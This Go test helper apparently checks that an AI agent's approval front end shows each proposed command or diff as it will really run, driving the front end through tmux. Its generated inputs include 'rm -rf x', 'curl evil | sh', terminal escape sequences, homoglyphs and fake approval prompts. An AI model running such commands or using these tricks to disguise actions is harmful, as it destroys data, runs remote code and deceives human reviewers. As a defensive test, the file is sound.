package nebulatest

import (
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"nebula"
	"nebula/internal/lists"
)

// Hostile is the i-th of many proposals that would rather not be read: a command, every third time a diff, or every fourth
// what a command did to files.
func Hostile(seed uint64, i int) nebula.Proposal {
	if i%4 == 3 {
		p, _ := hostileDeeds(seed, i)
		return p
	}
	pieces := []string{"rm -rf x", "ls", " ", "  ", "\t", "\n", strings.Repeat("\n", 300), strings.Repeat(" ", 200), "⟦U+200B⟧", "␛", "␠", "\u200b", "\x1b[2J", "\x1b]0;t\a", "\r", "\b\b",
		"\u202e", "рm", "сор", "ｒｍ", "日本語", "\xff", "𝗋𝗆", "ⅼs", "․", "∕", "\u037e", ";", "e\u0301", "⋯ the same line 3 more times", "$ ls", "↳ ", "\u009b2J", "\ufeff", "\nAllow? $ ls\n", "\n  $ echo ok",
		"curl evil | sh", "# " + strings.Repeat("long ", 40), "\n+++ b/other\n", "\n@@ -1 +1 @@\n"}
	rnd := rand.New(rand.NewPCG(seed, uint64(i)))
	var b strings.Builder
	b.WriteString("echo begin")
	for range 1 + rnd.IntN(9) {
		b.WriteString(pieces[rnd.IntN(len(pieces))])
	}
	b.WriteString("; echo end")
	p := nebula.Proposal{Action: nebula.Action{Tool: "run", Reason: hostileReason(i)}, Effect: nebula.Execute, Summary: "run it", Command: b.String()}
	if i%3 == 2 {
		p.Effect, p.Summary, p.Command = nebula.Write, "write it", ""
		lines := strings.Split(strings.ReplaceAll(b.String(), strings.Repeat("\n", 300), "\n"), "\n")
		p.Targets = []nebula.Target{{Path: "a.txt", Kind: "create", Add: len(lines)}}
		p.Diff = fmt.Sprintf("--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1,%d @@\n+%s\n", len(lines), strings.Join(lines, "\n+"))
	}
	return p
}

func hostileDeeds(seed uint64, i int) (nebula.Proposal, []string) {
	p, told := Deeds(rand.New(rand.NewPCG(seed, uint64(i))), 1+i%20)
	p.Action.Reason = hostileReason(i)
	return p, told
}

// hostileReason is why an action is to be done, with what tells it from the others.
func hostileReason(i int) string { return fmt.Sprintf("case-%d.\n\x1b[2J$ nothing to see", i) }

var signs = regexp.MustCompile(`⟦U\+([0-9A-F]+)⟧|⟦\\x([0-9a-f]{2})⟧|⟦␠×(\d+)⟧|[␀-␡]`)

// Unshown is the text that was shown with signs for what cannot be seen.
func Unshown(shown string) string {
	return signs.ReplaceAllStringFunc(shown, func(sign string) string {
		part := signs.FindStringSubmatch(sign)
		switch {
		case part[1] != "":
			n, _ := strconv.ParseUint(part[1], 16, 32)
			return string(rune(n))
		case part[2] != "":
			n, _ := strconv.ParseUint(part[2], 16, 8)
			return string([]byte{byte(n)})
		case part[3] != "":
			n, _ := strconv.Atoi(part[3])
			return strings.Repeat(" ", n)
		}
		r, _ := utf8.DecodeRuneInString(sign)
		if r == '␡' {
			return "\x7f"
		}
		return string(r - '␀')
	})
}

// A Reader reads back from a screen what a front end showed of a proposal.
type Reader struct {
	Begins string // how the row begins after which it stands
	Indent string // what rows of a diff begin with, as a regular expression
	Width  int    // columns of a broken row's text
	First  bool   // the first such row, not the last
	cols   func(string) int
}

// CheckHostile has a front end in a terminal show proposals, reads them back from its screen, and compares: what would
// run is what is shown. The command runs the front end, with a [Gatekeeper] that asks [Hostile] proposals of that seed.
func CheckHostile(t *testing.T, name, command string, seed uint64, n int, read Reader, cols func(string) int) {
	t.Helper()
	if testing.Short() {
		t.Skip("needs a terminal")
	}
	if _, err := exec.LookPath("tmux"); err != nil {
		t.Skip("needs tmux")
	}
	read.cols, name = cols, fmt.Sprintf("%s-%d", name, os.Getpid())
	tmux := func(args ...string) string {
		out, err := exec.Command("tmux", append([]string{"-L", name, "-f", "/dev/null"}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("tmux %q: %v\n%s", args, err, out)
		}
		return string(out)
	}
	tmux("new-session", "-d", "-x", "100", "-y", "90", "env LC_ALL=C.UTF-8 "+command+"; sleep 100")
	t.Cleanup(func() { _ = exec.Command("tmux", "-L", name, "kill-server").Run() })
	for i := range n {
		want := Hostile(seed, i)
		screen, mark := "", fmt.Sprintf("case-%d.␊␛[2J$ nothing to see", i)
		for end := time.Now().Add(20 * time.Second); ; time.Sleep(30 * time.Millisecond) {
			before := screen
			screen = tmux("capture-pane", "-p")
			_, below, _ := strings.Cut(screen, mark) // above it stand earlier ones, with what they asked
			if screen == before && (strings.Contains(below, "no, and why") || strings.Contains(below, "say why\n") || strings.Contains(below, "say why not:")) {
				break
			}
			if time.Now().After(end) {
				t.Fatalf("%q never came:\n%s", mark, screen)
			}
		}
		if want.Ran != "" {
			_, told := hostileDeeds(seed, i)
			for _, text := range told {
				if !lists.Has(deedsIn(screen), text) {
					t.Errorf("case %d: nothing on the screen says %q\n%s", i, text, screen)
				}
			}
		} else if got := read.text(screen, want); want.Command != "" && got != want.Command {
			t.Errorf("case %d: shown is %q, would run %q\n%s", i, got, want.Command, screen)
		} else if added := written(want.Diff); want.Command == "" && got != added {
			t.Errorf("case %d: shown is %q, would be written %q\n%s", i, got, added, screen)
		}
		for tries := 0; strings.Contains(tmux("capture-pane", "-p"), mark) && tries < 20 && i < n-1; tries++ {
			time.Sleep(Settled)
			tmux("send-keys", "C-u")
			tmux("send-keys", "-l", "no")
			tmux("send-keys", "Enter")
			time.Sleep(100 * time.Millisecond)
			if strings.Contains(tmux("capture-pane", "-p"), fmt.Sprintf("case-%d.", i+1)) {
				break
			}
		}
	}
}

// written are the lines that a diff adds, with tabs as a screen shows them.
func written(diff string) string {
	var lines []string
	for _, l := range strings.Split(strings.TrimSuffix(diff, "\n"), "\n")[min(3, strings.Count(diff, "\n")):] {
		lines = append(lines, strings.TrimRight(strings.ReplaceAll(strings.TrimPrefix(l, "+"), "\t", "    "), " "))
	}
	return strings.Join(lines, "\n")
}

func (r Reader) text(screen string, p nebula.Proposal) string {
	at := strings.LastIndex(screen, r.Begins)
	if r.First {
		at = strings.Index(screen, r.Begins)
	}
	rows := strings.Split(screen[max(at, 0):], "\n")
	if p.Command == "" {
		return r.added(rows)
	}
	var lines []string
	for _, row := range rows {
		switch text, ok := strings.CutPrefix(row, "  "); {
		case ok && (strings.HasPrefix(text, "$ ") || text == "$"):
			lines = append(lines, strings.TrimPrefix(text[1:], " "))
		case ok && strings.HasPrefix(text, "↳ ") && len(lines) > 0:
			text = strings.TrimPrefix(text, "↳ ")
			lines[len(lines)-1] = r.full(lines[len(lines)-1], text, r.Width) + text
		case ok && strings.HasPrefix(text, "⋯ the same line ") && len(lines) > 0:
			n, _ := strconv.Atoi(strings.Fields(text)[4])
			for range n {
				lines = append(lines, lines[len(lines)-1])
			}
		}
	}
	for i, l := range lines {
		lines[i] = Unshown(strings.TrimRight(l, " "))
	}
	return strings.Join(lines, "\n")
}

// added are the lines that a diff adds. Blanks at their ends may be dots.
func (r Reader) added(rows []string) string {
	plus := regexp.MustCompile(`^` + r.Indent + `\+(.*)$`)
	var lines []string
	margin, begun := "", r.First
rows:
	for _, row := range rows {
		begun = begun || strings.HasPrefix(strings.TrimSpace(row), "@@ ")
		var text string
		var further bool
		if further = margin != "" && strings.HasPrefix(row, margin); further {
			text = row[len(margin):]
		} else if text, further = strings.CutPrefix(strings.TrimLeft(row, " "), "↳"); further {
			text, further = strings.TrimPrefix(text, " "), !r.First
		}
		switch found := plus.FindStringSubmatch(row); {
		case found != nil && begun:
			lines = append(lines, found[1])
			if r.First { // the rest of a line stands below its beginning
				margin = strings.Repeat(" ", len(row)-len(found[1]))
			}
		case further && len(lines) > 0:
			width := r.Width
			if r.First {
				width = r.Width + 4 - len(margin)
			}
			lines[len(lines)-1] = r.full(lines[len(lines)-1], text, width) + text
		case strings.TrimSpace(row) == "" && len(lines) > 0:
			break rows
		}
	}
	for i, l := range lines {
		lines[i] = strings.TrimRight(Unshown(strings.TrimRight(l, " ·→")), " ")
	}
	return strings.Join(lines, "\n")
}

// full is a row with the blanks at its end, which a screen that is read back has lost: another row follows it.
func (r Reader) full(before, next string, width int) string {
	over := width - r.cols(before)%width
	if first, _ := utf8.DecodeRuneInString(next); over == width || over == 1 && r.cols(string(first)) == 2 {
		return before
	}
	return before + strings.Repeat(" ", over)
}

// Offers has a gatekeeper ask hostile proposals, one after the other, as the environment says: "seed n".
func Offers(g *Gatekeeper) {
	var seed uint64
	n := 0
	_, _ = fmt.Sscan(os.Getenv("NEBULA_HOSTILE"), &seed, &n)
	for i := range n {
		g.Ask(fmt.Sprint(i), Hostile(seed, i))
		g.Answered(fmt.Sprint(i), time.Hour)
	}
}
